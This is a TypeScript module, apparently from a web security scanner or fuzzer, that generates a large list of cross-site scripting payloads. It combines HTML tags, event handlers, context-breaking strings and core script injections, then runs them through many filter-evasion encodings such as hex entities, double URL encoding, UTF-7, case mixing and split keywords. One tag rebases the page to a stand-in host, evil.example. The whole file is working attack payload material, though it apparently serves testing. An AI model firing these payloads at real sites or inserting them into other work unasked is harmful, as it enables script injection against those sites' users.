import { linksAndTemplates } from "./link-payloads.ts";

const RUN = "alert(1)";

const tags = [
  ...[
    "img src=x",
    "svg",
    "body",
    "iframe",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "video src=x",
  ],
  ...[
    "audio src=x",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "form",
    "button",
    "a href=#",
    "div",
  ],
  ...[
    "math",
    "table",
    "keygen autofocus",
    "source src=x",
    "track src=x",
    "link rel=stylesheet href=x",
    "style",
  ],
  ...[
    "script src=x",
    "base href=//evil.example",
    "meta http-equiv=refresh content=0",
    "xss id=x tabindex=1",
    "p",
  ],
  ...[
    "svg><animate",
    "svg><set",
    "svg><script",
    "picture><source",
    "dialog open",
    "slot",
    "template",
    "portal src=x",
  ],
];
const events = [
  ...[
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onbegin",
    "onpageshow",
  ],
  ...[
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "onbeforetoggle",
    "onscrollend",
    "onbeforeinput",
  ],
  ...["ONERROR", "oNlOaD", "onerror\u000b", "onhashchange", "oncontentvisibilityautostatechange"],
];

const breaks = [
  ...[
    '">',
    "'>",
    "`>",
    ">",
    "</title>",
    "</script>",
    "</textarea>",
    "</style>",
    "</noscript>",
    "</option></select>",
  ],
  ...[
    "-->",
    "--!>",
    "]]>",
    "*/",
    '"/>',
    "' ",
    '" ',
    "\\",
    '\\"',
    "\\'",
    "\n",
    "\u2028",
    "</p>",
    "</a>",
    "</dd></dl>",
  ],
  ...[
    '"}</script>',
    '"]}</script>',
    "</SCRIPT >",
    "</script\t>",
    "<!--<script>",
    "<![CDATA[",
    "<?xml?>",
    "\ufeff",
  ],
];
const cores = [
  ...[
    `<script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<svg/onload=${RUN}>`,
    `<svg><script>${RUN}</script>`,
  ],
  ...[
    `<iframe srcdoc="<script>${RUN}</script>">`,
    "<a href=javascript:alert(1)>x</a>",
    `<input onfocus=${RUN} autofocus>`,
  ],
  ...[
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  ...[
    `<style>@import'javascript:${RUN}';</style>`,
    "<base href=javascript:/a/-alert(1)///>",
    `<x onclick=${RUN}>x</x>`,
  ],
  ...[`<form><button formaction=javascript:${RUN}>x`, `<object data=data:text/html,<script>${RUN}</script>>`],
  ...[
    `onmouseover=${RUN} x=`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<template><script>${RUN}`,
  ],
  ...[
    `<embed src=javascript:${RUN}>`,
    `<link rel=import href=data:text/html,${RUN}>`,
    `<select><style></select><img src=x onerror=${RUN}>`,
  ],
];

const hex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join("");
const encodings: ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60"),
  hex,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "‹").replaceAll(">", "›"),
  (text) => text.replaceAll("<", "%c0%bc"),
  (text) => text.replaceAll("<", "<\t"),
  (text) => text.replaceAll("<", "<\u0001"),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\f"),
  (text) => text.replaceAll(/[a-z]/g, (sign, at: number) => (at % 2 ? sign.toUpperCase() : sign)),
  (text) => text.replaceAll("script", "scr<script>ipt"),
  (text) => text.replaceAll("alert", "\\u0061lert"),
  (text) => text.replaceAll("(1)", "`1`"),
  (text) => `${text}<!--`,
  (text) => text.slice(0, -1),
];

export function scriptPayloads(): string[] {
  const all = [
    ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${RUN}>`)),
    ...breaks.flatMap((end) => cores.map((core) => end + core)),
    ...encodings.flatMap((encode) => cores.map(encode)),
    ...linksAndTemplates(),
    ...breaks.flatMap((end) =>
      events.slice(0, 12).map((event) => `x${end} ${event}=${RUN} autofocus tabindex=1 y=`),
    ),
  ];
  return [...new Set(all)].map((payload, n) => payload.replaceAll("alert(1)", `alert(${n + 1})`));
}
